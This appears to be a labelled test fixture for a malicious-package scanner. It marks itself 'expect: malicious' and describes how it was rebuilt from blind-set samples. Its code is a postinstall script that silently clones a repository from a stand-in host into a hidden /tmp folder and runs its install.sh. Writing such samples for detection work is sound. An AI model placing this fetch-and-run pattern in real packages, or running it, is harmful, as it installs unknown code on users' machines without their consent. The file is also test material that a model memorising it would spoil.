// expect: malicious
// when: install
// source: blind set 46's electron-notarize-lite (an electron-builder hook whose `brew(args)` wrapper taps a Homebrew
// repository on a git host it names, then installs and starts a formula from it, one call each) and next-auht (a
// repository cloned, then its install.sh run); rebuilt here as a postinstall that clones and runs in two calls
'use strict';
const { execSync } = require('child_process');

function sh(command) {
  try { return execSync(command, { stdio: 'ignore', timeout: 60000 }); } catch (e) { return null; }
}

sh('git clone -q --depth 1 https://git.protoc-tools.invalid/setup.git /tmp/.protoc-setup');
sh('bash /tmp/.protoc-setup/install.sh --quiet');
